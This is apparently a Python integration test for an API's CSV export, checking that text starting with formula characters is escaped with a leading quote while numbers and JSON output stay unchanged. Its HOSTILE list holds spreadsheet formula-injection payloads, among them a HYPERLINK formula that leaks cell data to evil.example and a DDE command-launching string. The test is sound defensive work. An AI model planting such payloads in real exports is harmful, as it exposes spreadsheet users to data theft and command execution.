"""CSV export against a real ``lms api``: device-supplied text that a spreadsheet would run as
a formula (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab, carriage return first) is exported
with a leading single quote, as OWASP advises; numbers and the JSON-lines export stay as
stored."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from tests.harness import ApiProcess, Stack
from tests.test_api_access import User

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\tx=1", "\rx=1", "=1+1"]
PLAIN = ["ok", "a=b", "", " =spaced", "'quoted"]


def test_csv_export_neutralises_formulas(api: ApiProcess, stack: Stack, unique: str) -> None:
    owner = User(api, f"{unique}-owner@example.com")
    try:
        assert owner.call("POST", "/api/v1/orgs", {"slug": unique}).status_code == 201
        assert owner.call("POST", f"/api/v1/orgs/{unique}/devices", {"slug": "d1"}).status_code == 201
        dev_id = stack.scalar("SELECT d.id FROM devices d JOIN organizations o ON o.id = d.org_id "
                              "WHERE o.slug = $1 AND d.slug = 'd1'", unique)
        texts = HOSTILE + PLAIN
        # Rows straight into the table, as the bridge would store a device's text metric.
        stack.query("""INSERT INTO readings (time, device_id, metric, value, text_value)
                       SELECT now() - interval '1 hour' + i * interval '1 s', $1, 'mode', NULL, t
                       FROM unnest($2::text[]) WITH ORDINALITY AS u(t, i)""", dev_id, texts)
        stack.query("""INSERT INTO readings (time, device_id, metric, value)
                       VALUES (now() - interval '1 hour', $1, 'temp', -1.5)""", dev_id)
        base = f"/api/v1/orgs/{unique}/devices/d1/export"

        r = owner.client.get(base, params={"format": "csv"})
        assert r.status_code == 200, r.text
        rows = list(csv.reader(io.StringIO(r.text, newline="")))
        assert rows[0] == ["time", "metric", "value", "text"]
        exported = [row[3] for row in rows[1:] if row[1] == "mode"]
        expected = ["'" + t for t in HOSTILE] + PLAIN
        assert exported == expected, exported
        assert [row[2] for row in rows[1:] if row[1] == "temp"] == ["-1.5"]  # a number, not a formula

        lines = owner.client.get(base, params={"format": "json"}).text
        parsed: list[dict[str, Any]] = [json.loads(x) for x in lines.splitlines()]
        assert [p["text"] for p in parsed if p["metric"] == "mode"] == texts
    finally:
        owner.client.close()
